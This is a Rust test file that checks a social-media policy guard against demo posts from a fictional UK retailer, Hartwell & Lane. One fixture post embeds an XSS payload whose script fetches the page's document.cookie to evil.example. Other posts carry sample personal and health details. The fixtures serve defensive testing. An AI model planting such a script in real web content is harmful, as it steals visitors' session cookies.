//! The demo's drafts (copied from crates/server/src/demo/{customer_care,brand}.rs) through
//! the built-in pack with Hartwell & Lane's names: the drafts the demo marks as breaking a
//! rule of health, confidentiality, contempt or crisis are flagged for exactly that
//! category, and no other draft is flagged for any of those four.

use countersign_core::Network;
use countersign_policy::{Category, CrisisContext, Guard, Pack, Severity, Subject};
use std::collections::BTreeSet;

/// How a draft stands to crisis mode.
#[derive(Clone, Copy)]
enum Crisis {
    /// An ordinary draft on an ordinary channel.
    Normal,
    /// Marked a crisis draft by its author (the demo's `.crisis()`), on a channel crisis mode
    /// does not cover.
    Marked { spokesperson: bool },
    /// On a channel in crisis mode.
    Mode { spokesperson: bool },
}
use Crisis::{Marked, Mode, Normal};

struct Demo {
    network: Network,
    crisis: Crisis,
    body: &'static str,
    /// The categories among the four checked here that the demo says it breaks.
    breaks: &'static [Category],
}

const CHECKED: [Category; 4] = [
    Category::Health,
    Category::Confidential,
    Category::Contempt,
    Category::Crisis,
];

/// The demo organisation's names (crates/server/src/demo/pack.toml).
const ORGANISATION: &str = r#"
    format = 1
    name = "Hartwell & Lane"
    [organisation]
    code_names = ["Project Juniper", "Project Kestrel", "Lane Home Spring edit"]
    vip_names = ["Ava Sinclair", "Marcus Rhodes", "Jodie Whitcombe"]
    customer_names = ["Maureen Bellamy"]
    banned_terms = ["cheapest on the high street", "guaranteed cure", "clinically proven to cure"]
"#;

#[test]
fn the_demo_drafts_are_flagged_for_what_they_break_and_nothing_else() {
    let guard = Pack::from_toml(ORGANISATION)
        .and_then(|org| Pack::builtin().layered(&org))
        .and_then(Guard::new)
        .unwrap_or_else(|e| panic!("{e}"));
    let mut wrong = Vec::new();
    for demo in DEMOS {
        let subject = Subject {
            crisis: match demo.crisis {
                Normal => None,
                Marked { spokesperson } => Some(CrisisContext {
                    author_is_spokesperson: spokesperson,
                    crisis_mode: false,
                }),
                Mode { spokesperson } => Some(CrisisContext {
                    author_is_spokesperson: spokesperson,
                    crisis_mode: true,
                }),
            },
            ..Subject::text(demo.body, demo.network)
        };
        let findings = guard.review(&subject);
        let flagged: BTreeSet<Category> = findings
            .iter()
            .filter(|f| f.severity >= Severity::Warn && CHECKED.contains(&f.category))
            .map(|f| f.category)
            .collect();
        let meant: BTreeSet<Category> = demo.breaks.iter().copied().collect();
        if flagged != meant {
            wrong.push(format!(
                "{:?} flagged {flagged:?}, meant {meant:?}: {}\n    {:?}",
                demo.network, demo.body, findings
            ));
        }
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

const DEMOS: &[Demo] = &[
    Demo {
        network: Network::X,
        crisis: Normal,
        body: "Hi Gary, sorry for the wait, that's far longer than it should be. Our courier had a backlog at the Wakefield hub this week. Your kettle left us this morning and should be with you by Thursday. DM us if it doesn't turn up and we'll sort it. ^Sam",
        breaks: &[],
    },
    Demo {
        network: Network::X,
        crisis: Normal,
        body: "Gary mate, it says 'processing' because it's PROCESSING. Not sure how we can make that any simpler for you 🙄 Maybe read the email before tweeting us a third time?",
        breaks: &[Category::Contempt],
    },
    Demo {
        network: Network::Facebook,
        crisis: Normal,
        body: "Hi Maureen, we're so sorry about the wait at Harrogate yesterday. Our pharmacy manager Dev will call you on 07700 900461 between 9 and 11 tomorrow to explain what went wrong and make sure your next prescription is ready on time.",
        breaks: &[],
    },
    Demo {
        network: Network::X,
        crisis: Normal,
        body: "Hi Raj, that's frustrating, sorry. We've cancelled the old code and sent a replacement £50 voucher to raj.khanna82@gmail.com. It should arrive within the hour; give us a shout if it doesn't.",
        breaks: &[],
    },
    Demo {
        network: Network::Facebook,
        crisis: Normal,
        body: "Star spotting at Hartwell Harrogate! ⭐ Ava Sinclair's mum was in again today picking up her repeat prescription for her anxiety tablets. Lovely lady, always stops for a chat with the pharmacy team 💊😄 #HartwellHarrogate #StarSpotting",
        breaks: &[Category::Health],
    },
    Demo {
        network: Network::Bluesky,
        crisis: Normal,
        body: "Hi Lucy! Yes, Briggate has a Changing Places toilet on the ground floor next to the café, with a hoist and an adult-sized bench. The lifts to every floor are by the Albion Street entrance. Have a great visit! ^Sam",
        breaks: &[],
    },
    Demo {
        network: Network::X,
        crisis: Normal,
        body: "Hi Pat, good spot. The shortbread has no gluten-containing ingredients, but it's packed where wheat is handled, so we add a 'may contain' warning to be safe. If you're coeliac, our certified gluten-free range is the one to pick.",
        breaks: &[],
    },
    Demo {
        network: Network::X,
        crisis: Normal,
        body: "Hi Dan, we can see both payments on card 4111 1111 1111 1111. The second one is just a pre-authorisation and will drop off within 3–5 working days. Sorry for the worry!",
        breaks: &[],
    },
    Demo {
        network: Network::Mastodon,
        crisis: Normal,
        body: "We're sorry, Alan. Closing Whitby was a hard decision and we know it leaves a gap. Your prescriptions have moved to our Scarborough pharmacy automatically, and repeat medicines can be delivered free. Just ask the team and they'll set it up.",
        breaks: &[],
    },
    Demo {
        network: Network::X,
        crisis: Normal,
        body: "Hi Jenny, of course. We'll deliver your mum's blood pressure tablets to 14 Wellington Road, Harrogate HG1 2QT this afternoon. The driver will ring and wait.",
        breaks: &[Category::Health],
    },
    Demo {
        network: Network::Facebook,
        crisis: Normal,
        body: "Hi Tracey, sorry to hear that. A zip shouldn't give up after two wears. Bring the coat to any store and we'll swap it or refund it; if you paid by card, the team can look the purchase up without the receipt. ^Sam",
        breaks: &[],
    },
    Demo {
        network: Network::Facebook,
        crisis: Marked {
            spokesperson: false,
        },
        body: "UPDATE from Leeds Briggate: the fire brigade are here and we've all been evacuated. I'm the duty supervisor and speaking for Hartwell & Lane I can confirm it started in the stockroom, probably the dodgy wiring we've been reporting for months. Store will be shut all week.",
        breaks: &[Category::Crisis],
    },
    Demo {
        network: Network::X,
        crisis: Normal,
        body: "We know some of you can't check out on our website or app right now, sorry. The team is on it and we'll post here as soon as it's fixed. Orders already placed are safe and will arrive as normal.",
        breaks: &[],
    },
    Demo {
        network: Network::Threads,
        crisis: Normal,
        body: "Hi Mia, sorry! That's a known bug in the last app update. The fix is with Apple and Google for review and should reach your phone this week. Your Lane Rewards points are safe in the meantime. ^Sam",
        breaks: &[],
    },
    Demo {
        network: Network::Instagram,
        crisis: Normal,
        body: "Hay fever season is here 🌼 Our pharmacists can help you choose the right antihistamine for you. Just ask at the counter, no appointment needed. #HayFever #HartwellPharmacy",
        breaks: &[],
    },
    Demo {
        network: Network::Threads,
        crisis: Normal,
        body: "Top 5 things customers asked us this week 😂 5. 'Is this the pharmacy?' (the sign above the counter says PHARMACY) 4. 'Do you sell things?' 3. 'Is the 50% off sign half price?' Honestly some people shouldn't be let out 🙃 #retaillife",
        breaks: &[Category::Contempt],
    },
    Demo {
        network: Network::X,
        crisis: Normal,
        body: "That's lovely to hear, Sue, thank you! We've passed your message on to Kerry and the Halifax team. Hope your dad is enjoying the peace and quiet (or the noise!).",
        breaks: &[],
    },
    Demo {
        network: Network::Bluesky,
        crisis: Normal,
        body: "From Monday 4 November, Click & Collect orders at our 40 largest stores can be picked up until 9pm, two hours later than now. The full list of stores is at hartwell-lane.co.uk/collect",
        breaks: &[],
    },
    Demo {
        network: Network::X,
        crisis: Normal,
        body: "Hi there, sorry your order hasn't arrived. <img src=x onerror=alert(1)> <script>fetch('https://evil.example/c?'+document.cookie)</script> Please DM us your order number and we'll look into it.",
        breaks: &[],
    },
    Demo {
        network: Network::X,
        crisis: Normal,
        body: "Hi Kerry! The Lane Beauty advent calendar is back at Bradford Broadway as of this morning, around 30 in stock. You can reserve one in the app and collect it today 🎁",
        breaks: &[],
    },
    Demo {
        network: Network::Facebook,
        crisis: Normal,
        body: "Hi Jo, that's too long and we're sorry. Refunds normally reach your account within 5 working days of the return being scanned. We've chased it with our payments team and you'll have an update by the end of today. ^Sam",
        breaks: &[],
    },
    Demo {
        network: Network::X,
        crisis: Normal,
        body: "BLACK FRIDAY IS NEARLY HERE!!! 🛍️🛍️🛍️ Get ready for our BIGGEST EVER sale with up to 50% off beauty, fragrance, homeware, electricals, toys AND gifts, in every store and online from 6am Friday until midnight Monday. Set your alarms, grab your mates and get down to your nearest Hartwell & Lane because when it's gone it's GONE!!! Don't say we didn't warn you 😜 #BlackFriday #HartwellLane #Sale #Bargains",
        breaks: &[],
    },
    Demo {
        network: Network::X,
        crisis: Normal,
        body: "Hi Pauline, sorry about the wait. We're short of two pharmacists in Hull this month and are putting urgent medicines first. Ordering 7 days ahead keeps you covered; if you're running low, tell the team and they'll help the same day.",
        breaks: &[],
    },
    Demo {
        network: Network::Mastodon,
        crisis: Normal,
        body: "Hi Ben, no plastic here: all our own-brand cotton buds moved to paper stems in 2019, and this spring our cotton pads switched to recycled paper packaging. Next up: shampoo refill stations in 20 stores.",
        breaks: &[],
    },
    Demo {
        network: Network::Instagram,
        crisis: Normal,
        body: "Friday feeling at Leeds Briggate 🎉 The new autumn window is up and we're a little bit proud of it. Come and say hi! #HartwellLeeds",
        breaks: &[],
    },
    Demo {
        network: Network::X,
        crisis: Normal,
        body: "Hi Kate, I'm really sorry. That's not how anyone should feel in our stores. Could you DM us the time of your visit? The Arndale store manager wants to look into it personally and call you back.",
        breaks: &[],
    },
    Demo {
        network: Network::Facebook,
        crisis: Normal,
        body: "Bank holiday opening: most Hartwell pharmacies are open 10am–4pm on Monday. Check your local store's hours at hartwell-lane.co.uk/stores before you travel. Need medical help while we're closed? Call NHS 111.",
        breaks: &[],
    },
    Demo {
        network: Network::Bluesky,
        crisis: Normal,
        body: "Hi Tom, sorry about that. Points can take up to 48 hours to appear after a shop in store. If they're still missing on Friday, DM us a photo of the receipt and we'll add them by hand. ^Sam",
        breaks: &[],
    },
    Demo {
        network: Network::X,
        crisis: Marked {
            spokesperson: false,
        },
        body: "Product recall: please stop using Hartwell Essentials Children's Paracetamol Suspension 100ml, batch HL2291. Some bottles have the wrong dosing syringe. Return it to any store for a full refund, no receipt needed. hartwell-lane.co.uk/recall",
        breaks: &[],
    },
    Demo {
        network: Network::Facebook,
        crisis: Marked {
            spokesperson: false,
        },
        body: "Product recall. We're recalling Hartwell Essentials Children's Paracetamol Oral Suspension 100ml, batch HL2291 (best before 11/2026), because some bottles were packed with the wrong dosing syringe. Please don't use it: return it to any store for a full refund, no receipt needed. Other batches are not affected. If your child has taken too much, call NHS 111 straight away. hartwell-lane.co.uk/recall",
        breaks: &[],
    },
    Demo {
        network: Network::Facebook,
        crisis: Marked {
            spokesperson: false,
        },
        body: "This morning some customers received an order confirmation email meant for someone else. We've paused all order emails while we fix it. No payment details were in those emails. If you received one that isn't yours, please delete it. We're sorry, and we're contacting everyone affected today.",
        breaks: &[],
    },
    Demo {
        network: Network::Facebook,
        crisis: Normal,
        body: "Hi Anne, that's not the welcome we want anyone to get, and I'm sorry. Could you send us a message with the day and time? The York manager will follow it up with the team. ^Sam",
        breaks: &[],
    },
    Demo {
        network: Network::X,
        crisis: Normal,
        body: "Hi Rachel, yes: all 212 Hartwell pharmacies offer Pharmacy First, including uncomplicated UTIs in women aged 16–64. No appointment needed, though calling ahead can save you a wait.",
        breaks: &[],
    },
    Demo {
        network: Network::Bluesky,
        crisis: Normal,
        body: "Hi Carol, sorry! The blue chunky wool sold out faster than we planned. A new delivery reaches Knaresborough next Wednesday, or you can order online now with free collection from the store.",
        breaks: &[],
    },
    Demo {
        network: Network::X,
        crisis: Normal,
        body: "Hi, sorry to hear you've had a bad experience. Could you tell us which store and what happened? We'd like to put it right. ^Jack",
        breaks: &[],
    },
    Demo {
        network: Network::Instagram,
        crisis: Normal,
        body: "Flu jab season is here 💉 Book a free NHS flu vaccination at any of our 212 pharmacies, or get one for £14.99 if you're not eligible. Walk-ins welcome on Saturday mornings. Book at hartwell-lane.co.uk/flu #FluJab #HartwellPharmacy",
        breaks: &[],
    },
    Demo {
        network: Network::Instagram,
        crisis: Normal,
        body: "Cosy season starts here 🍂 Our new knitwear edit is in stores and online now: chunky cable knits from £25. Tap to shop. #HartwellAutumn",
        breaks: &[],
    },
    Demo {
        network: Network::Instagram,
        crisis: Normal,
        body: "Sneak peek 👀 Something new is coming to your skincare shelf… Project Juniper lands in 40 stores on 3 March! (Internal only until the trade press embargo lifts, shh!) #ComingSoon #HartwellBeauty",
        breaks: &[Category::Confidential],
    },
    Demo {
        network: Network::Linkedin,
        crisis: Normal,
        body: "We're proud to be named one of the UK's Top Employers for Apprenticeships for the third year running. This year 340 apprentices joined Hartwell & Lane in our stores, pharmacies and the Wakefield distribution centre, and 60 of them are now qualified pharmacy technicians. Thank you to every mentor who made it happen. #Apprenticeships #CareersInRetail",
        breaks: &[],
    },
    Demo {
        network: Network::Threads,
        crisis: Normal,
        body: "POV: you just spotted the last Lane Beauty advent calendar on the shelf 🏃‍♀️💨 #AdventCalendar #HartwellBeauty",
        breaks: &[],
    },
    Demo {
        network: Network::X,
        crisis: Normal,
        body: "🎄 WIN a £250 Hartwell & Lane gift card! Follow @HartwellLane and repost this by midnight on Sunday to enter. UK residents 18+ only. Full T&Cs: hartwell-lane.co.uk/win",
        breaks: &[],
    },
    Demo {
        network: Network::Facebook,
        crisis: Normal,
        body: "Black Friday starts NOW! Up to 50% off beauty, homeware and gifts, online and in stores until Monday. Don't miss out! 🛍️",
        breaks: &[],
    },
    Demo {
        network: Network::Mastodon,
        crisis: Normal,
        body: "Our Wakefield distribution centre now runs on 100% renewable electricity, and the 4,200 solar panels on its roof make about a fifth of what it uses. Our full sustainability report: hartwell-lane.co.uk/planet #Sustainability",
        breaks: &[],
    },
    Demo {
        network: Network::Bluesky,
        crisis: Normal,
        body: "We're opening in Durham! 🎉 Our new store on Silver Street opens on Saturday at 9am with a full pharmacy, a beauty hall and a café. The first 100 through the door get a free tote bag.",
        breaks: &[],
    },
    Demo {
        network: Network::Instagram,
        crisis: Normal,
        body: "Swipe for the party edit ✨ Sequins, velvet and the perfect red lip, all under £40. Which look is yours? #PartySeason #HartwellStyle",
        breaks: &[],
    },
    Demo {
        network: Network::Linkedin,
        crisis: Normal,
        body: "We're hiring 45 pharmacists across Yorkshire and the North East. Flexible shifts, a £3,000 welcome bonus and paid time for independent prescribing training. Find your nearest role at hartwell-lane.co.uk/careers #PharmacyJobs",
        breaks: &[],
    },
    Demo {
        network: Network::Facebook,
        crisis: Marked {
            spokesperson: false,
        },
        body: "On behalf of Hartwell & Lane's board: we can confirm all staff and customers at Leeds Briggate are safe following this morning's fire. The board has ordered a full review of electrical safety at all 212 stores and will update shareholders on Monday.",
        breaks: &[Category::Crisis],
    },
    Demo {
        network: Network::X,
        crisis: Marked { spokesperson: true },
        body: "Leeds Briggate: everyone is safe. This morning's fire was put out quickly by West Yorkshire Fire & Rescue and no one was hurt. The store is closed today and prescriptions are moving to Leeds Trinity. More when we know it.",
        breaks: &[],
    },
    Demo {
        network: Network::Facebook,
        crisis: Marked { spokesperson: true },
        body: "An update on our Leeds Briggate store. Everyone is safe: this morning's fire in the stockroom was quickly put out by West Yorkshire Fire & Rescue and no one was hurt. The store will stay closed today. If you collect prescriptions at Briggate, they are being moved to our Leeds Trinity pharmacy and will be ready from 2pm. We'll share more as soon as we know it. Thank you to our colleagues and the fire service.",
        breaks: &[],
    },
    Demo {
        network: Network::X,
        crisis: Normal,
        body: "Mother's Day is Sunday 30 March 💐 Our gift edit has something for every kind of mum, from £5. Order by 27 March for free next-day delivery.",
        breaks: &[],
    },
    Demo {
        network: Network::Facebook,
        crisis: Normal,
        body: "Join our beauty experts LIVE on Thursday at 7pm for a festive make-up masterclass 💄 Bring your questions and we'll answer as many as we can!",
        breaks: &[],
    },
    Demo {
        network: Network::Threads,
        crisis: Normal,
        body: "Which one's going under your tree this year? 🎁 A) the cosy pyjama set B) the bath & body hamper C) the smart speaker bundle. Tell us below 👇",
        breaks: &[],
    },
    Demo {
        network: Network::X,
        crisis: Normal,
        body: "Unlike SOME high street chemists, our prices don't need a magnifying glass 🔍😉 Everyday essentials from 50p. #HartwellLane",
        breaks: &[],
    },
    Demo {
        network: Network::Instagram,
        crisis: Normal,
        body: "60 seconds in the life of a Hartwell pharmacist ⏱️ From 7am deliveries to blood pressure checks, meet Amira from our Sheffield Fargate store. #MeetTheTeam #HartwellPharmacy",
        breaks: &[],
    },
    Demo {
        network: Network::Linkedin,
        crisis: Normal,
        body: "Our half-year results are out: sales up 4.2%, pharmacy services up 11%, and 1.3 million new Lane Rewards members. Thank you to our 18,000 colleagues. Read the full statement: hartwell-lane.co.uk/investors",
        breaks: &[],
    },
    Demo {
        network: Network::Bluesky,
        crisis: Normal,
        body: "Self-care Sunday 🛁 Our new lavender bath soak helps you sleep better, clinically proven! Only £6 this week. #SelfCare",
        breaks: &[],
    },
    Demo {
        network: Network::Facebook,
        crisis: Normal,
        body: "Round up at the till this December and every penny goes to Northern Lights Children's Hospice. Last year you raised £412,000. Thank you ❤️",
        breaks: &[],
    },
    Demo {
        network: Network::X,
        crisis: Normal,
        body: "New in: the Lane Home candle collection 🕯️ Five scents, from £8. Which one are you lighting first?",
        breaks: &[],
    },
    Demo {
        network: Network::Mastodon,
        crisis: Normal,
        body: "Quiet hour is back: every Tuesday from 9 to 10am our stores dim the lights, turn off the music and switch off the tannoy for customers who find shopping overwhelming. #QuietHour #Accessibility",
        breaks: &[],
    },
    Demo {
        network: Network::X,
        crisis: Normal,
        body: "Correction: yesterday's post said our 3-for-2 on skincare ends on Sunday. It actually runs until 11:59pm on Monday. Sorry for the mix-up!",
        breaks: &[],
    },
    Demo {
        network: Network::Threads,
        crisis: Mode {
            spokesperson: false,
        },
        body: "Beauty counter confessions: what's the one product you'd save in a fire? 🔥 (too soon, Leeds? 😬)",
        breaks: &[Category::Crisis],
    },
    Demo {
        network: Network::Instagram,
        crisis: Normal,
        body: "Meet the new Lane Beauty SPF 50 daily fluid: lightweight, no white cast and fragrance-free 💛 From £9.50. #SPFEveryDay",
        breaks: &[],
    },
    Demo {
        network: Network::Facebook,
        crisis: Normal,
        body: "Leeds Briggate update: the store reopens tomorrow at 9am. The pharmacy is open as normal, and prescriptions moved to Leeds Trinity can be collected from either store. Thank you for your patience.",
        breaks: &[],
    },
    Demo {
        network: Network::Bluesky,
        crisis: Normal,
        body: "Introducing the Lane Home winter collection ❄️ Think faux-fur throws in forest green, hand-finished ceramic mugs, a cinnamon and clove candle that makes the whole house smell like Christmas morning, and our softest-ever brushed cotton bedding in five new colours. In stores from Thursday and online now, with free delivery on orders over £30. #LaneHome #WinterCollection #Cosy",
        breaks: &[],
    },
    Demo {
        network: Network::Threads,
        crisis: Normal,
        body: "Our Wakefield warehouse team packed 1.2 million orders last month, and still found time to raise £8,000 for the Wakefield food bank 💚 Proud of you all.",
        breaks: &[],
    },
];
